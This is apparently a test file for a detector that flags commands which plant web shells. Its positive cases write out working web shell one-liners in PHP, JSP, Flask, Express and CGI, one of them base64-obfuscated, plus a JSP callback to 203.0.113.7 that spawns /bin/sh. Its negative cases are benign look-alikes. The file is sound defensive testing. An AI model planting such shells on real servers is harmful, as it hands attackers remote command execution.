import assert from 'node:assert/strict';
import { test } from 'node:test';
import { growth } from '../../lib/testing.ts';
import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandWebShell } from './web-shell.ts';

indicatorTable(commandWebShell, {
  fires: {
    'a page of PHP that is written and served': script(
      `mkdir -p /w && echo '<?php system($_GET["c"]); ?>' > /w/a.php && php -S 0.0.0.0:8080 -t /w`,
    ),
    'a page with a name between': script(
      `printf '%s' '<?php $c = $_POST["x"]; echo shell_exec($c);' > /var/www/html/a.php`,
    ),
    backticks: script("cat > /w/a.php <<'X'\n<?php echo `$_REQUEST[0]`; ?>\nX\n"),
    'a function by the name that the request gives': script(`echo '<?php $_GET[0]($_GET[1]);' > /w/a.php`),
    'a page that is decoded first': script(
      `echo ${btoa('<?php eval(base64_decode($_POST["z"])); ?>')} | base64 -d > /w/a.php`,
    ),
    'a service in Python': runs(
      'python3',
      '-c',
      'from flask import Flask, request\nimport subprocess\na = Flask("a")\n@a.route("/")\ndef r():\n  return subprocess.check_output(request.args.get("c"), shell=True)\na.run(host="0.0.0.0")',
    ),
    'a service in Node.js': runs(
      'node',
      '-e',
      'require("express")().get("/", (req, res) => require("child_process").exec(req.query.c, (e, o) => res.end(o))).listen(80)',
    ),
    'a server of sockets that runs each line': runs(
      'python3',
      '-c',
      'import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n  def handle(me):\n    line = me.rfile.readline().decode()\n    me.wfile.write(subprocess.getoutput(line).encode())\nsocketserver.TCPServer(("", 4000), H).serve_forever()',
    ),
    'a page of a server in Java': script(
      `echo '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' > /usr/local/tomcat/webapps/ROOT/a.jsp`,
    ),
    'a page that calls back': script(
      `echo '<% Socket s = new Socket("203.0.113.7", 443); Process p = Runtime.getRuntime().exec("/bin/sh"); %>' > /w/a.jsp`,
    ),
    'a script behind a gateway': script(
      `printf '#!/bin/sh\necho; eval "$(echo $QUERY_STRING | sed s/+/ /g)"' > /w/cgi-bin/x; chmod +x /w/cgi-bin/x; httpd -f -h /w`,
    ),
  },
  staysSilent: {
    'a page that asks a database': script(
      `echo '<% Socket s = new Socket("db", 5432); out.print(s.isConnected()); %>' > /w/health.jsp`,
    ),
    'a class of Python with a path of its own': runs(
      'python3',
      '-c',
      'import subprocess\nclass Archive:\n  def __init__(self, path): self.path = path\n  def unpack(self): subprocess.run(["tar", "-xf", self.path])\nArchive("/in/a.tar").unpack()',
    ),
    'a script behind a gateway that shows what was asked': script(
      `printf '#!/bin/sh\necho; echo "$QUERY_STRING"; sh -c date' > /w/cgi-bin/x; httpd -f -h /w`,
    ),
    'a page that shows a date': script(`echo '<?php echo date("c"); ?>' > /w/a.php && php -S 0.0.0.0:8080 -t /w`),
    'a page that shows what was asked': script(`echo '<?php echo htmlspecialchars($_GET["q"]); ?>' > /w/a.php`),
    'a page that runs a command of its own': script(`echo '<?php echo shell_exec("uptime"); ?>' > /w/a.php`),
    'a service that reads a parameter and runs something else': runs(
      'python3',
      '-c',
      'from flask import Flask, request\nimport subprocess\na = Flask("a")\n@a.route("/")\ndef r():\n  q = request.args.get("q")\n  subprocess.run(["date"])\n  return q\n',
    ),
    'a server of sockets that counts lines': runs(
      'python3',
      '-c',
      'import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n  def handle(me):\n    line = me.rfile.readline()\n    me.wfile.write(str(len(line)).encode())\n    subprocess.run(["date"])\n',
    ),
    'a request that is sent': runs('python3', '-c', 'import requests; print(requests.get("https://example.com").text)'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});

test('text is read in a time that grows with its length', () => {
  const text = (size: number): string => `x = request.args ${'a = request.form; system('.repeat(size / 24)}`;
  const ratio = growth((size) => {
    const facts = script(`echo '${text(size)}' > /w/a.py`);
    return commandWebShell.assess(facts);
  }, 2000);
  assert.ok(ratio < 6, `${ratio}`);
});
